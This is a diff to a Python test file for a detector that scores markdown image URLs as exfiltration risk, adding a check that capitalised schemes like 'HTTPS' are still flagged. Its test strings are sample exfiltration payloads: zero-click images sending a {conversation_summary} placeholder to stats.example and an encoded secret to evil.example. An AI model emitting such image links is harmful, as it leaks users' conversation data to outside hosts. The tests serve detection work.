@@ -17,6 +17,13 @@ def test_markdown_image_with_placeholder_is_flagged() -> None:
     assert _top("![x](https://stats.example/p.gif?d={conversation_summary})") >= 70
 
 
+def test_a_scheme_in_capitals_is_still_a_markdown_image() -> None:
+    """URL schemes are case-insensitive: ``](HTTPS://`` renders like ``](https://`` and must not drop
+    the zero-click image from >= 70 to the bare-URL 50."""
+    for scheme in ("HTTPS", "Https", "HTTP"):
+        assert _top(f"![x]({scheme}://stats.example/p.gif?d={{conversation_summary}})") >= 70
+
+
 def test_markdown_image_with_long_query_is_flagged() -> None:
     """A long query string on a zero-click image URL is exfiltration >= 70."""
     assert _top("![](https://evil.example/a.png?q=" + "c2VjcmV0" * 10 + ")") >= 70
